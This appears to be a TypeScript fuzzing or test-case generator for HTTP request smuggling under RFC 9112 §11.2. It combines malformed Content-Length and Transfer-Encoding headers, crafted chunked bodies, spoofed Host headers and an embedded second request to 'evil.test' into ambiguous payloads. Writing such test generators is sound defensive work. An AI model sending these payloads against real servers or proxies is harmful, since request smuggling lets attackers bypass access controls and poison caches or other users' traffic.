// Requests whose end or whose host two servers may see differently: what the one takes for a body, the other takes for a
// request. (RFC 9112 §11.2)

const SECOND = 'GET /smuggled HTTP/1.1\r\nHost: evil.test\r\nX-Proxy-Id: forged\r\n\r\n';

const LENGTHS = [
  `Content-Length: ${SECOND.length}`,
  'Content-Length: 0',
  'Content-Length: 5',
  'Content-Length: +5',
  'Content-Length: 0x5',
  'Content-Length: 5, 5',
  'Content-Length: 5 5',
  'Content-Length: -5',
  'Content-Length:\t5',
  'Content-Length : 5',
  ' Content-Length: 5',
  'Content_Length: 5',
  'Content-Length: 5\r\nContent-Length: 0',
  'Content-Length: 0\r\nContent-Length: 5',
  'Content-Length: 9007199254740993',
  'Content-Length: 18446744073709551621',
  'X: y\nContent-Length: 5',
  'X: y\rContent-Length: 5',
  'X:\r\n Content-Length: 5',
  '',
];

const CODINGS = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding: Chunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding : chunked',
  ' Transfer-Encoding: chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunked;a=b',
  'Transfer-Encoding: identity',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  '',
];

const BODIES = [
  `0\r\n\r\n${SECOND}`,
  `5\r\nhello\r\n0\r\n\r\n${SECOND}`,
  SECOND,
  `5;a="\r\n0\r\n\r\n${SECOND}`,
  `5;\nhello\r\n0\r\n\r\n${SECOND}`,
  `5\nhello\n0\n\n${SECOND}`,
  `0\r\nContent-Length: 5\r\nHost: evil.test\r\n\r\n${SECOND}`,
  `0 \r\n\r\n${SECOND}`,
  `00\r\n\r\n${SECOND}`,
  `0x0\r\n\r\n${SECOND}`,
  `-0\r\n\r\n${SECOND}`,
  `10000000000000000\r\n\r\n${SECOND}`,
];

const LINES = [
  'POST / HTTP/1.1',
  'GET / HTTP/1.1',
  'POST / HTTP/1.0',
  'HEAD / HTTP/1.1',
  'OPTIONS * HTTP/1.1',
  'POST http://evil.test/a HTTP/1.1',
  'GET /a HTTP/1.1\r\nExpect: 100-continue',
  'POST /a HTTP/1.1\r\nConnection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
  'POST /a HTTP/1.1\r\nConnection: Content-Length',
  'POST /a HTTP/1.1\r\nConnection: close, Transfer-Encoding',
];

const HOSTS = [
  'Host: a.test',
  'Host: a.test\r\nHost: evil.test',
  'Host: a.test\r\n folded.test',
  'Host: a.test:80@evil.test',
  'Host:',
  'Host : a.test',
  'hOST: a.test',
  'Host: a.test,evil.test',
  'X: y\nHost: evil.test',
];

/**
 * Every length with every coding, and with them lines, hosts and bodies in turn, so that each meets many others.
 *
 * @returns what a client sends on one connection
 */
export function ambiguous(): string[] {
  const requests: string[] = [];
  for (const length of LENGTHS) {
    for (const coding of CODINGS) {
      const at = requests.length;
      const lines = [LINES[at % LINES.length], HOSTS[at % 5 === 0 ? (at / 5) % HOSTS.length : 0], length, coding];
      requests.push(`${lines.filter((line) => line !== '').join('\r\n')}\r\n\r\n${BODIES[at % BODIES.length]}`);
    }
  }
  for (const body of BODIES) {
    requests.push(`POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n${body}`);
    requests.push(`POST / HTTP/1.1\r\nHost: a.test\r\nContent-Length: 5\r\n\r\n${body}`);
  }
  for (const host of HOSTS) requests.push(`GET / HTTP/1.1\r\n${host}\r\n\r\n${SECOND}`);
  return requests;
}
